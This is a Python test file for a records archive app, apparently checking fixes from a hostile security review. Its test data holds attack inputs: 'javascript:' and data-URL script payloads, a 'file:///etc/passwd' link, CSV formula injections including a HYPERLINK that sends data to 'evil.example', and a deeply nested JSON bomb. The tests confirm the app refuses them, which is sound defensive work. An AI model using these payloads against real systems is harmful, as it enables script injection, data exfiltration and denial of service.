"""What a hostile test of the archive found (issue 17), each closed and proved here on a real archive:
source links, spreadsheet formulas, weak passwords and look-alike usernames, hostile import files,
file modes, and what relevance scores tell about hidden records."""
from __future__ import annotations

import json
import sqlite3
from contextlib import closing

import pytest

from archive import urls, validation

PASSWORD = "a long enough password"


def add_user(app, name: str, role: str, password: str = PASSWORD):
    """An account made by the command line (which goes through archive.accounts)."""
    result = app.test_cli_runner().invoke(args=["user", "add", name, "--role", role, "--password-stdin"],
                                          input=password + "\n")
    assert result.exit_code == 0, result.output
    return result


def sign_in(client, name: str, password: str = PASSWORD):
    response = client.post("/login", data={"username": name, "password": password})
    assert response.status_code == 302, response.get_data(as_text=True)
    return client


@pytest.fixture
def archivist(app, client):
    add_user(app, "ada", "archivist")
    return sign_in(client, "ada")


def count_records(app) -> int:
    with closing(sqlite3.connect(app.config["DATABASE"])) as conn:
        return conn.execute("SELECT count(*) FROM records").fetchone()[0]


# --- item 6: source.url is a web address, and only web addresses become links ----------------------

NOT_WEB = ["javascript:alert(1)", " JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
           "vbscript:msgbox(1)", "file:///etc/passwd", "ftp://example.org/x", "//evil.example/x",
           "http://", "https://exa mple.org/", "java\tscript:alert(1)", "http://example.org/\n"]
WEB = ["http://example.org", "https://example.org/a?b=c#d", "HTTPS://doi.org/10.1000/182",
       "https://n2t.net/ark:/13030/tf5p30086k"]


@pytest.mark.parametrize("url", NOT_WEB)
def test_a_source_url_must_be_a_web_address(url):
    record = {"type": "testimony", "title": "T", "source": {"url": url}}
    assert ("source.url", urls.MESSAGE) in validation.validate("record", record)
    assert not urls.is_web_url(url)


@pytest.mark.parametrize("url", WEB)
def test_web_addresses_are_accepted(url):
    assert validation.validate("record", {"type": "testimony", "title": "T", "source": {"url": url}}) == []
    assert urls.is_web_url(url)


def test_the_published_schema_has_the_same_rule():
    assert validation.SCHEMAS["record"]["properties"]["source"]["properties"]["url"]["pattern"] == \
        urls.WEB_URL.pattern


def test_the_record_form_refuses_a_script_address(app, archivist):
    response = archivist.post("/records/new", data={
        "title": "A letter", "type": "open_letter", "access": "public", "save": "Save",
        "source_url": "JaVaScRiPt:alert(document.cookie)"})
    page = response.get_data(as_text=True)
    assert response.status_code == 400 and "must be a web address starting with http://" in page
    assert count_records(app) == 0


def test_an_import_refuses_a_data_address(app, tmp_path):
    path = tmp_path / "bad.jsonl"
    path.write_text(json.dumps({"type": "testimony", "title": "T",
                                "source": {"url": "data:text/html,<script>alert(1)</script>"}}) + "\n")
    result = app.test_cli_runner().invoke(args=["import", str(path)])
    assert result.exit_code != 0 and "source.url" in result.output and "http://" in result.output
    assert count_records(app) == 0


def test_a_stored_script_address_is_never_a_link(app, client, save):
    """A record saved before the rule: the page shows the address as text; JSON-LD and OAI leave it out."""
    record = save(title="Old source", source={"citation": "Box 4", "url": "https://example.org/ok"})
    with closing(sqlite3.connect(app.config["DATABASE"])) as conn, conn:
        conn.execute("UPDATE records SET source = ? WHERE id = ?",
                     [json.dumps({"citation": "Box 4", "url": "javascript:alert(1)"}), record["id"]])
    page = client.get(f"/records/{record['id']}").get_data(as_text=True)
    assert "javascript:alert(1)" in page and 'href="javascript:' not in page
    node = client.get(f"/records/{record['id']}.jsonld").get_json()
    assert "javascript" not in json.dumps(node) and node["isBasedOn"]["citation"] == "Box 4"
    oai = client.get(f"/oai?verb=GetRecord&metadataPrefix=oai_dc&identifier=oai:localhost:{record['id']}")
    assert b"Box 4" in oai.data and b"javascript" not in oai.data


# --- item 7: a CSV export never hands a spreadsheet a formula, and its import takes the guard off ----

FORMULAS = {"title": "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")", "summary": "+1+1",
            "text": "\t-- a dash opens the transcript\n\nand a second paragraph",
            "collection": "@SUM(1,1)", "accession": "'=already quoted", "rights": "'tis free",
            "subjects": ["-minus first", "plain"], "people": [{"name": "=cmd", "role": "author"}]}


def run_cli(home, *args, input=None):
    from click.testing import CliRunner

    from archive.cli import cli
    return CliRunner().invoke(cli, ["--home", str(home), *args], input=input, catch_exceptions=False)


def read_csv(text: str) -> list[dict]:
    import csv
    import io
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def test_csv_cells_that_start_a_formula_are_neutralised_and_come_back_whole(tmp_path, save, client):
    save(id="r-formula", **FORMULAS)
    text = client.get("/export.csv").get_data(as_text=True)
    row = read_csv(text)[0]
    for column, cell in row.items():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert row["title"] == "'" + FORMULAS["title"] and row["accession"] == "''=already quoted"
    assert row["rights"] == "'tis free"  # a quote before no formula stays as it is
    sheet = tmp_path / "formulas.csv"
    sheet.write_text(text, encoding="utf-8")
    other = tmp_path / "other"
    result = run_cli(other, "import", str(sheet))
    assert result.exit_code == 0, result.output
    run_cli(other, "export", "-o", str(tmp_path / "back.jsonl"))
    back = [json.loads(line) for line in (tmp_path / "back.jsonl").read_text().splitlines()]
    record = next(o for o in back if o["kind"] == "record")
    for key, value in FORMULAS.items():
        got = [{"name": p["name"], "role": p["role"]} for p in record[key]] if key == "people" else record[key]
        assert got == value, key


# --- item 9: no common or trivial passwords; a username is one account whatever its case -----------

@pytest.mark.parametrize("password", ["aaaaaaaaaa", "1234567890", "password12", "qwertyuiop",
                                      "Password123!", "abcdefghijkl", "archive2024", "researcher01"])
def test_common_and_trivial_passwords_are_refused(app, client, password):
    result = app.test_cli_runner().invoke(
        args=["user", "add", "researcher", "--role", "researcher", "--password-stdin"], input=password + "\n")
    assert result.exit_code != 0 and "password: is too easy to guess." in result.output
    assert client.post("/login", data={"username": "researcher", "password": password}).status_code == 401


@pytest.mark.parametrize("password", ["a long enough password", "correct horse battery staple",
                                      "ហ៊ុន សែន ពាក្យសម្ងាត់វែង", "x" * 11 + " plus a few uncommon words" * 4])
def test_good_passwords_and_long_passphrases_pass(app, client, password):
    add_user(app, "cleo", "researcher", password)
    sign_in(client, "cleo", password)


def test_the_users_page_refuses_a_weak_password_with_advice(app, client):
    add_user(app, "root", "admin")
    sign_in(client, "root")
    response = client.post("/users", data={"add-username": "bea", "add-password": "1234567890",
                                           "add-role": "researcher", "add-add": "Add user"})
    page = response.get_data(as_text=True)
    assert response.status_code == 400 and "is too easy to guess." in page and "common password" in page
    reset = client.post("/users/root/password", data={"pw-root-password": "password12",
                                                      "pw-root-reset": "Reset password"},
                        follow_redirects=True)
    assert "is too easy to guess." in reset.get_data(as_text=True)
    sign_in(app.test_client(), "root")  # the old password still works


def test_usernames_differing_only_in_case_are_one_account(app, client):
    add_user(app, "researcher", "researcher")
    add_user(app, "root", "admin")
    admin = sign_in(app.test_client(), "root")
    taken = admin.post("/users", data={"add-username": "Researcher", "add-password": "another long secret",
                                       "add-role": "archivist", "add-add": "Add user"})
    assert taken.status_code == 400 and "is taken (by researcher)" in taken.get_data(as_text=True)
    # the command line resets the one account, keeping its spelling
    add_user(app, "RESEARCHER", "researcher", "another long secret")
    page = admin.get("/users").get_data(as_text=True)
    assert page.count('<th scope="row">researcher</th>') == 1 and "RESEARCHER" not in page
    assert client.post("/login", data={"username": "researcher", "password": PASSWORD}).status_code == 401
    response = client.post("/login", data={"username": "ReSeArChEr", "password": "another long secret"},
                           follow_redirects=True)
    assert "Signed in as researcher." in response.get_data(as_text=True)


def test_an_older_archive_with_look_alike_usernames_is_upgraded(tmp_path):
    """Of two accounts differing only in case, the first made keeps its name; the other is renamed."""
    from conftest import config

    from archive import create_app
    cfg = config(tmp_path / "old")
    app = create_app(cfg)
    add_user(app, "Researcher", "archivist")
    app.extensions["archive"].close()
    with closing(sqlite3.connect(cfg["DATABASE"])) as conn, conn:  # as before usernames ignored case
        conn.execute("DROP INDEX users_username_nocase")
        conn.execute("DROP INDEX records_visibility")  # made by the migrations after it
        conn.execute("ALTER TABLE events DROP COLUMN variants")
        for column in ("redactions", "consent", "consent_status"):  # added by SCHEMA_V10_REDACTIONS
            conn.execute(f"ALTER TABLE records DROP COLUMN {column}")
        conn.execute("DROP TABLE segment_links")  # V9, recordings
        conn.execute("ALTER TABLE records DROP COLUMN media")
        conn.execute("ALTER TABLE records DROP COLUMN segments")
        conn.execute("INSERT INTO users (username, password_hash, role, created_at) "
                     "SELECT 'researcher', password_hash, 'admin', '2999-01-01T00:00:00Z' FROM users")
        conn.execute("PRAGMA user_version = 3")  # before usernames ignored case
    app = create_app(cfg)
    with closing(sqlite3.connect(cfg["DATABASE"])) as conn:
        names = dict(conn.execute("SELECT username, role FROM users ORDER BY username"))
    assert names["Researcher"] == "archivist" and "researcher" not in names
    assert [role for name, role in names.items() if name.startswith("researcher-")] == ["admin"]
    response = sign_in(app.test_client(), "researcher").get("/")
    assert "Researcher (archivist)" in response.get_data(as_text=True)
    app.extensions["archive"].close()


# --- item 10: hostile import files get one clear message, a short report, and leave nothing behind --

def upload(client, content: bytes, name: str):
    """POST a file to the upload page (the multipart body made here: werkzeug's test client would
    spool a large one to a temporary file it never closes)."""
    boundary = "----archive-test-boundary"
    body = (f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n'
            f"Content-Type: application/octet-stream\r\n\r\n").encode() + content + \
        f"\r\n--{boundary}--\r\n".encode()
    return client.post("/import", data=body, content_type=f"multipart/form-data; boundary={boundary}")


def waiting_uploads(app) -> list[str]:
    from pathlib import Path
    folder = Path(app.config["DATABASE"]).parent / "uploads"
    return sorted(p.name for p in folder.iterdir()) if folder.exists() else []


DEEP_JSON = ('{"type": "testimony", "title": "Deep", "source": ' + "[" * 10_000 + "]" * 10_000 + "}").encode()


@pytest.mark.parametrize("name", ["deep.json", "deep.jsonl"])
def test_json_nested_ten_thousand_deep_is_refused_and_not_kept(app, archivist, name):
    response = upload(archivist, DEEP_JSON, name)
    page = response.get_data(as_text=True)
    assert response.status_code == 200 and "nested more than 32 levels deep" in page
    assert 'name="token"' not in page and waiting_uploads(app) == [] and count_records(app) == 0


def test_json_nested_below_the_readers_limit_is_refused_too(app, archivist):
    """Deep enough to pass Python's reader, far too deep for a record: the same message."""
    record = {"type": "testimony", "title": "Deep", "source": {"citation": "x"}}
    nested = record
    for _ in range(200):
        nested["people"] = [{"name": "n"}]
        nested = nested["people"][0]
    page = upload(archivist, json.dumps(record).encode(), "deep.jsonl").get_data(as_text=True)
    assert "line 1" in page and "nested more than 32 levels deep" in page and waiting_uploads(app) == []


def test_a_lone_surrogate_is_refused_at_check_time(app, archivist, tmp_path):
    lines = [json.dumps({"type": "testimony", "title": "Fine 😀 \ud83d\ude00"}),
             '{"type": "testimony", "title": "Broken \\ud800 here"}',
             '{"type": "testimony", "title": "Key", "source": {"\\udfff": "x"}}']
    page = upload(archivist, "\n".join(lines).encode(), "surrogate.jsonl").get_data(as_text=True)
    assert "Nothing can be imported: 2 problems." in page
    assert "<strong>line 2</strong>: <span>holds a lone surrogate" in page and "line 3" in page
    assert 'name="token"' not in page and waiting_uploads(app) == [] and count_records(app) == 0
    path = tmp_path / "surrogate.json"
    path.write_text("[" + lines[1] + "]")
    result = app.test_cli_runner().invoke(args=["import", "--dry-run", str(path)])
    assert result.exit_code == 1 and "item 1: holds a lone surrogate" in result.output


def test_a_million_columns_give_a_short_report(app, archivist):
    header = ",".join(["title", "type"] + [f"c{i}" for i in range(1_000_000)])
    response = upload(archivist, (header + "\nA,testimony\n").encode(), "wide.csv")
    page = response.get_data(as_text=True)
    assert response.status_code == 200 and len(page) < 20_000
    assert "unknown column(s) &#39;c0&#39;, &#39;c1&#39;" in page and "&#39;c9&#39; and 999,990 more" in page
    assert waiting_uploads(app) == []


def test_error_reports_list_fifty_problems_and_count_the_rest(app, archivist):
    rows = "".join(f"Row {i},memo\n" for i in range(120))
    page = upload(archivist, ("title,type\n" + rows).encode(), "many.csv").get_data(as_text=True)
    assert "Nothing can be imported: 120 problems (the first 50 are listed)" in page
    assert page.count("is not one of") == 50 and "and 70 more" in page
    long_cell = "title,type\n" + "A,testimony\n" + "B," + "x" * 100_000 + "\n"
    page = upload(archivist, long_cell.encode(), "long.csv").get_data(as_text=True)
    assert "Nothing can be imported: 1 problem." in page and len(page) < 20_000


# --- item 13: the archive's files are readable by their owner only --------------------------------

@pytest.fixture
def open_umask():
    """The umask many systems give (022: files readable by everyone), restored afterwards."""
    import os
    before = os.umask(0o022)
    yield
    os.umask(before)


def modes(root) -> dict[str, str]:
    """Every file and folder under root with its permission bits, e.g. {"records/archive.db": "600"}."""
    return {str(p.relative_to(root)): oct(p.stat().st_mode & 0o777)[2:] for p in sorted(root.rglob("*"))}


def assert_private(root):
    found = modes(root)
    assert found and not {name: mode for name, mode in found.items() if mode not in ("600", "700")}, found


def test_an_archive_made_by_the_app_is_private(tmp_path, open_umask):
    from conftest import config

    from archive import create_app
    cfg = config(tmp_path / "home")
    del cfg["SECRET_KEY"]
    app = create_app(cfg)
    add_user(app, "ada", "archivist")
    client = sign_in(app.test_client(), "ada")
    page = upload(client, b"title,type\nA letter,open_letter\n", "letter.csv").get_data(as_text=True)
    assert 'name="token"' in page  # the upload waits for its confirmation
    import os
    os.umask(0o022)
    with closing(sqlite3.connect(cfg["DATABASE"])) as conn:  # while open, the -wal and -shm files exist
        conn.execute("SELECT count(*) FROM users").fetchone()
        found = modes(tmp_path / "home")
        for name in ("records", "records/archive.db", "records/archive.db-wal", "records/archive.db-shm",
                     "records/.secret_key", "records/uploads", "search_index"):
            assert name in found, sorted(found)
        assert any(name.startswith("records/uploads/") for name in found)
        assert any(name.startswith("search_index/_MAIN_") for name in found)
        assert_private(tmp_path / "home")
    app.extensions["archive"].close()


def test_an_archive_made_by_the_command_line_is_private(tmp_path, open_umask):
    import os
    home = tmp_path / "home"
    assert run_cli(home, "init", "--sample").exit_code == 0
    os.umask(0o022)  # each command sets it again
    assert run_cli(home, "export", "-o", str(tmp_path / "all.jsonl")).exit_code == 0
    os.umask(0o022)
    assert run_cli(home, "backup", str(tmp_path / "copy")).exit_code == 0
    os.umask(0o022)
    assert run_cli(home, "reindex").exit_code == 0
    assert {"search_index", "records/archive.db"} <= set(modes(home))
    assert_private(home)
    assert_private(tmp_path / "copy")
    assert oct((tmp_path / "all.jsonl").stat().st_mode & 0o777) == "0o600"  # it holds private records


# --- item 14: what relevance scores tell a viewer about hidden records (measured) -------------------

def test_relevance_scores_shift_with_hidden_records_as_security_md_says(tmp_path):
    """A measurement, kept as a test so that SECURITY.md stays true.

    Hidden records never reach a viewer's hits, totals or order here, but the index's relevance
    statistics (document count, document frequency, average length) include them: three private
    records mentioning "Kem Sokha" lower the score an anonymous viewer sees for the public letter by
    about 13%, while a phrase they do not hold moves by about 2%. SECURITY.md documents this. When
    the index scores with the statistics of what each viewer may see, the shift becomes 0, this test
    fails, and SECURITY.md is to be updated with it.
    """
    from conftest import loaded_app
    app = loaded_app(tmp_path / "h")
    anonymous = app.test_client()

    def search(q):
        found = anonymous.get("/search.json", query_string={"q": q}).get_json()
        return found["total"], [h["id"] for h in found["hits"]], {h["id"]: h["score"] for h in found["hits"]}

    before = {q: search(q) for q in ("Kem Sokha", "Khmer Rouge")}
    add_user(app, "ada", "archivist")
    archivist = sign_in(app.test_client(), "ada")
    for i in range(3):
        response = archivist.post("/records/new", data={
            "title": f"Hidden {i}", "type": "testimony", "access": "private", "save": "Save",
            "text": "Kem Sokha was seen at the refugee camp. " * (i + 1)})
        assert response.status_code == 302
    after = {q: search(q) for q in ("Kem Sokha", "Khmer Rouge")}
    shift = {}
    for q in before:
        (total, ids, scores), (total2, ids2, scores2) = before[q], after[q]
        assert (total, ids) == (total2, ids2)  # no hidden hit, no change of count or order
        shift[q] = (scores2[ids[0]] - scores[ids[0]]) / scores[ids[0]]
    print(f"score shift: {shift}")
    assert shift["Kem Sokha"] < -0.10 and abs(shift["Khmer Rouge"]) < 0.05
    app.extensions["archive"].close()
